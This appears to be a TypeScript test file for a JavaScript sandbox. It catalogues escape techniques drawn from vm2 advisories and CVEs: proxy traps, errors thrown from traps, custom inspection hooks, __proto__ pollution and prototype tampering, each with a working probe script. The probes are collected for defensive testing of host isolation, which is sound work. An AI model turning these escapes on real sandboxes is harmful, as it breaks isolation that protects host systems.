/** Values that are more than they look when the host takes them, and changes to what the host gave. */
import { TAINT } from "../kit.ts";
import { advisory, cve, type Escape, issue } from "../technique.ts";

export const VALUES: readonly Escape[] = [
  {
    name: "a proxy whose traps see what the host does",
    tries: "each trap climbs from its arguments, and so does a proxy that the host calls",
    sources: [advisory("GHSA-whpj-8f3w-67p5"), issue("patriksimek/vm2", 177), issue("patriksimek/vm2", 178)],
    scripts: [
      `let looking = false;
      const look = (args) => {
        if (looking) return;
        looking = true;
        for (const arg of args) { climb(arg); if (Array.isArray(arg)) for (let n = 0; n < arg.length; n += 1) climb(arg[n]) }
        looking = false;
      };
      const handler = new Proxy({}, { get: (_, trap) => (...args) => { look(args); return Reflect[trap](...args) } });
      const spies = [new Proxy({}, handler), new Proxy(() => {}, handler), new Proxy(class {}, handler), new Proxy([], handler)];
      for (const spy of spies) {
        const uses = [() => text(spy), () => notify(spy), () => store("k", spy), () => image(spy), () => tools.echo(spy), () => tools.echo({ spy }), () => setTimeout(spy, 0, spy)];
        for (const use of uses) try { await use() } catch (error) { climb(error) }
      }
      await new Promise((resolve) => setTimeout(resolve, 1));`,
    ],
  },
  {
    name: "an error thrown out of a trap while the host looks",
    tries: "what a trap throws passes through the host, and whatever the host makes of it comes back",
    sources: [advisory("GHSA-ch3r-j5x3-6q2m"), issue("patriksimek/vm2", 174)],
    scripts: [
      `const failing = () => { const error = new Error(); error.name = Symbol(); return error.stack };
      const handler = { getPrototypeOf: failing, ownKeys: failing, get: failing, has: failing, getOwnPropertyDescriptor: failing };
      const proxy = new Proxy({}, handler);
      for (const use of [() => text(proxy), () => store("k", proxy), () => image(proxy), () => tools.echo(proxy), () => { throw proxy }]) {
        try { await use() } catch (error) { if (error !== proxy) climb(error); else try { error instanceof Error } catch (inner) { climb(inner) } }
      }`,
    ],
  },
  {
    name: "a custom inspection",
    tries: "a host that prints a value calls the value's own method with functions of the host",
    sources: [advisory("GHSA-g644-9gfx-q4q4"), issue("patriksimek/vm2", 268)],
    scripts: [
      `const value = { [Symbol.for("nodejs.util.inspect.custom")](depth, options, inspect) { climb(inspect); climb(options); return "" } };
      for (const use of [() => text(value), () => text([value]), () => notify(value), () => tools.echo(value), () => tools.echo({ value })]) {
        try { await use() } catch {}
      }`,
    ],
  },
  {
    name: "keys like __proto__ in what a tool is given",
    tries: "a host that merges the input into an object of its own pollutes its prototypes",
    sources: [cve("2019-10744"), advisory("GHSA-79xf-67r4-q2jj")],
    scripts: [
      `const polluting = JSON.parse('{"__proto__":{"${TAINT}":1},"constructor":{"prototype":{"${TAINT}":1}}}');
      await tools.echo(polluting); await tools.echo({ deep: polluting, list: [polluting] });
      store("__proto__", polluting); text(polluting); notify(polluting); load("__proto__");`,
    ],
  },
  {
    name: "prototypes of what came back",
    tries: "changes the prototypes of the host's values, or takes them away",
    sources: [advisory("GHSA-v6mx-mf47-r5wg"), cve("2026-44008")],
    scripts: [
      `const setPrototype = {}.__lookupSetter__("__proto__");
      const value = await tools.echo({ list: [] });
      for (const given of [value, value.list, ALL_TOOLS, tools, text, tools.echo({})]) {
        let object = given;
        while (object) {
          try { object.${TAINT} = true } catch {}
          try { Object.defineProperty(object, 0, { set() { climb(this) }, configurable: true }) } catch {}
          const next = Object.getPrototypeOf(object);
          try { Reflect.apply(setPrototype, object, [null]) } catch {}
          object = next;
        }
      }`,
    ],
  },
  {
    name: "properties written to a host's function",
    tries: "a symbol that the host looks for makes its own tools run the script's function",
    sources: [advisory("GHSA-c4cf-2hgv-2qv6"), advisory("GHSA-m5q2-4fm3-vfqp")],
    scripts: [
      `for (const given of [text, tools.echo, setTimeout, notify]) {
        for (const key of [Symbol.for("nodejs.util.promisify.custom"), Symbol.for("nodejs.rejection"), "${TAINT}"]) {
          try { given[key] = () => {} } catch {}
          try { Reflect.set(given, key, () => {}, Object.create(given)) } catch {}
        }
        try { Object.assign(Object.create(given), { ${TAINT}: true }); given.call = null; given.prototype = null } catch {}
      }`,
    ],
  },
];
